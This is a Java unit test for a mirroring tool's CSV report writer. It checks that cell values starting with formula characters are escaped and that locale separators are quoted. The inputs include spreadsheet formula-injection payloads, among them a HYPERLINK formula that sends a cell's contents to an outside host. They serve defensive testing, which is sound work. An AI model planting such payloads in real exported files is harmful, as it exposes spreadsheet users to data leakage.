package org.multicloudmirror.report;

import static org.assertj.core.api.Assertions.assertThat;
import static org.multicloudmirror.report.SampleRun.PHOTOS;
import static org.multicloudmirror.report.SampleRun.outcome;

import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.multicloudmirror.mirror.task.OutcomeKind;

class CsvRowTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "=1+1",
                "+1",
                "-1",
                "@SUM(A1)",
                "=HYPERLINK(\"http://x/?\"&A1)",
                "\tx",
                "\rx",
                "\n=x",
                " =x",
                "  +x",
                "\"=x",
                "'=x",
                "\uff1dx",
                "\uff20x"
            })
    void isNoFormulaWhateverAKeyBeginsWith(String key) {
        String row = CsvRow.of(PHOTOS, outcome(OutcomeKind.FAILED, key, 7, 1, key));

        assertThat(row).contains("'" + key.replace("\"", "\"\""));
        assertThat(row.split(",(?=(?:[^\"]*\"[^\"]*\")*[^\"]*$)", -1))
                .hasSize(10)
                .allSatisfy(cell -> assertThat(cell).doesNotContainPattern("^[\"]?[=+@\t\uff1d\uff20-]"));
    }

    @ParameterizedTest
    @ValueSource(strings = {"a=b", "a", "'a'", "", "a-b", "1", "\u00e9"})
    void leavesOtherTextAsItIs(String key) {
        assertThat(CsvRow.of(PHOTOS, outcome(OutcomeKind.FAILED, key, 7, 1, "no")))
                .contains(",failed," + key + ",7,");
    }

    /** Where a comma is the decimal point, spreadsheets separate cells by semicolons. */
    @Test
    void quotesWhatAnotherLocaleSeparatesBy() {
        assertThat(CsvRow.of(PHOTOS, outcome(OutcomeKind.FAILED, "a;=1+1", 7, 1, "a\t=b")))
                .contains(",\"a;=1+1\",")
                .endsWith(",\"a\t=b\"\r\n");
    }
}
